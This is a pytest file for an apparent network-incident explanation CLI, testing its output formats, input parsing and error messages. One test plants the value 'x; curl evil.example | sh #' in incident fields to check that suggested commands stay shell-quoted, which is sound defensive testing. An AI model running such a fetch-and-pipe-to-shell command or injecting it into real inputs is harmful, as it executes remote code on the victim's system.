"""From an id to an explanation that a person likes to read, wherever the incident is."""

import io
import json
import re
import shlex
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from rich.console import Console
from shop_case import shop_baseline, shop_case

from sidelong.alerts.format_cloudevents import cloudevents
from sidelong.alerts.format_json import json_payload
from sidelong.alerts.incident import Actor, Incident
from sidelong.cli import run
from sidelong.evidence_meanings import meaning_of
from sidelong.explanation import explained
from sidelong.explanation_view import show
from sidelong.recording import Sight

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(shop_case().bundle(tmp_path_factory.mktemp("explain") / "shop.evidence"))


@pytest.fixture
def told(capsys: pytest.CaptureFixture[str]) -> Run:
    def tell(*arguments: str) -> tuple[int, str, str]:
        status = run(["explain", *arguments])
        captured = capsys.readouterr()
        return status, captured.out, captured.err

    return tell


def incident(kind: str) -> Incident:
    return next(one for one in shop_case().incidents if one.kind == kind)


def test_an_explanation_has_all_that_somebody_asks(told: Run, bundle: str) -> None:
    one = incident("lateral_movement")
    status, out, _ = told(one.id[:5], bundle)
    assert status == 0
    flat = " ".join(out.split())
    assert one.summary in flat
    for heading in (
        "Observed against expected",
        "The sums, to be done by hand",
        "Flows that brought the evidence",
        "The same story",
        "What could not be seen",
        "What to do next",
        "The smallest policy that would have stopped it",
    ):
        assert heading in out
    assert "T1210 Exploitation of Remote Services (Lateral Movement)" in out
    assert "kubectl describe pod -n shop catalog-" in out


def test_the_sums_come_to_what_is_claimed() -> None:
    one = incident("lateral_movement")
    lines = shop_case().explain(one).arithmetic
    left, _, total = lines[0].rpartition(" = ")
    terms = [float(part) for part in left.split() if part[-1].isdigit() and "_" not in part]
    assert sum(terms) == pytest.approx(float(total), abs=0.02)
    opens = next(line for line in lines if "for opening a connection" in line)
    leads = next(line for line in lines if "for leading there" in line)
    halves = [float(line.partition(" = ")[2].split()[0]) for line in (opens, leads)]
    assert sum(halves) == pytest.approx(terms[0], abs=0.02)


def test_the_bytes_of_a_tunnel_come_to_its_evidence() -> None:
    one = incident("dns_exfiltration")
    explanation = shop_case().explain(one)
    leaks = next(line for line in explanation.arithmetic if "leaks" in line)
    assert float(leaks.rpartition(" = ")[2].replace(",", "")) == pytest.approx(
        explanation.nats, abs=0.05
    )


def test_a_pipe_gets_plain_text_and_a_terminal_colour(told: Run, bundle: str) -> None:
    one = incident("scan")
    _, out, _ = told(one.id, bundle)
    assert "\x1b" not in out
    assert all(line == line.rstrip() for line in out.splitlines())
    screen = io.StringIO()
    console = Console(file=screen, force_terminal=True, width=100, color_system="standard")
    show(shop_case().explain(one), console)
    assert "\x1b[" in screen.getvalue()


def test_json_is_one_object_for_programs(told: Run, bundle: str) -> None:
    one = incident("scan")
    _, out, _ = told(one.id, bundle, "--output", "json")
    plain = json.loads(out)
    assert (plain["id"], plain["version"]) == (one.id, 1)
    assert plain["numbers"][0]["feature"] == "vertical_first_contacts"
    assert plain == json.loads(json.dumps(shop_case().explain(one).to_dict()))


def test_traffic_gives_a_bundle_with_the_story(told: Run, tmp_path: Path) -> None:
    one = incident("dns_exfiltration")
    kept = tmp_path / "kept.evidence"
    traffic = "examples/shop-incident/test.hubble.jsonl.zst"
    status, out, err = told(
        one.id[:6], traffic, "--baseline", shop_baseline(), "--bundle", str(kept)
    )
    assert status == 0
    assert f"kept in {kept}: 4 incidents and" in err
    assert told(one.id[:6], str(kept))[1] == out


@pytest.mark.parametrize("shape", ["line", "lines", "webhook", "cloudevent", "list"])
def test_an_alert_is_taken_from_standard_input(
    told: Run, monkeypatch: pytest.MonkeyPatch, shape: str
) -> None:
    one = replace(incident("scan"), policy=None)
    before = replace(one, status="open", counts={"contacts": 5})
    text = {
        "line": one.to_json(),
        "lines": f"{before.to_json()}\n{one.to_json()}\n",
        "webhook": json.dumps(json_payload([one], {"team": "shop"})),
        "cloudevent": json.dumps(cloudevents([one], {})[0]),
        "list": json.dumps(cloudevents([before, one], {})),
    }[shape]
    monkeypatch.setattr("sys.stdin", io.StringIO(text))
    status, out, _ = told("-", "--output", "json")
    assert status == 0
    plain = json.loads(out)
    assert (plain["id"], plain["status"]) == (one.id, one.status)
    assert any("no flows" in line for line in plain["unseen"])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "no incident on standard input"),
        ("not json", "line 1 of standard input is no incident"),
        ('{"status": "firing", "alerts": []}', "no incident on standard input"),
        ('{"a": 1}', "is no incident"),
    ],
)
def test_what_is_no_alert_is_told_so(
    told: Run, monkeypatch: pytest.MonkeyPatch, text: str, problem: str
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(text))
    status, _, err = told("-")
    assert status == 2
    assert problem in err


def test_an_alert_that_is_not_found_again_is_explained_by_what_it_says(
    told: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    one = replace(incident("scan"), id="feedfacefeedface")
    found = tmp_path / "found.jsonl"
    found.write_text(shop_case().incidents.to_jsonl())
    monkeypatch.setattr("sys.stdin", io.StringIO(one.to_json()))
    status, out, err = told("-", str(found), "--output", "json")
    assert status == 0
    assert "is not found in" in err
    assert json.loads(out)["id"] == one.id


def test_a_file_alone_is_explained_if_it_holds_one_incident(told: Run, tmp_path: Path) -> None:
    one = tmp_path / "one.evidence"
    shop_case().bundle(one, [incident("scan")], limit=5)
    assert told(str(one))[0] == 0


def test_a_file_with_several_lists_them(told: Run, bundle: str) -> None:
    status, _, err = told(bundle)
    assert status == 2
    assert "there are 4 incidents, say which" in err
    assert all(one.id in err for one in shop_case().incidents)


def test_an_id_that_is_not_there_is_told_with_those_that_are(told: Run, bundle: str) -> None:
    status, _, err = told("beefbeef", bundle)
    assert status == 2
    assert "there is no incident 'beefbeef'" in err
    assert shop_case().incidents[0].id in err


def test_an_id_alone_says_where_it_looked(
    told: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    status, _, err = told("24c76a1b")
    assert status == 2
    assert "no input is named, and no outbox is at" in err
    assert "--config" in err


def test_every_piece_of_evidence_has_its_meaning() -> None:
    named = re.compile(r'(?:_part\(\s*|feature=pl\.lit\()"([a-z_]+)"')
    features = [
        feature
        for module in Path("models").glob("*.py")
        for feature in named.findall(module.read_text(encoding="utf-8"))
    ]
    assert len(set(features)) > 10
    assert [one for one in features if not meaning_of(one)] == []


def test_no_command_to_be_typed_holds_another() -> None:
    evil = "x; curl evil.example | sh #"
    one = replace(incident("scan"), id=evil, actor=Actor(f"shop/{evil}", evil))
    told = explained(one, where=[evil, "--pods", evil], judged_by=evil)
    commands = [step.command for step in told.next if step.command]
    assert len(commands) == 4
    for command in commands:
        words = shlex.split(command)
        assert ";" not in words
        assert command.count(evil) == command.count(f"'{evil}'") > 0


def test_what_was_not_seen_is_said() -> None:
    one = replace(incident("scan"), completeness=0.9)
    sight = Sight(flows=10, bad=3, dropped={})
    unseen = " ".join(explained(one, sight=sight).unseen)
    assert "10 % of the events did not reach" in unseen
    assert "3 rows could not be read" in unseen
    assert "No baseline was given" in unseen
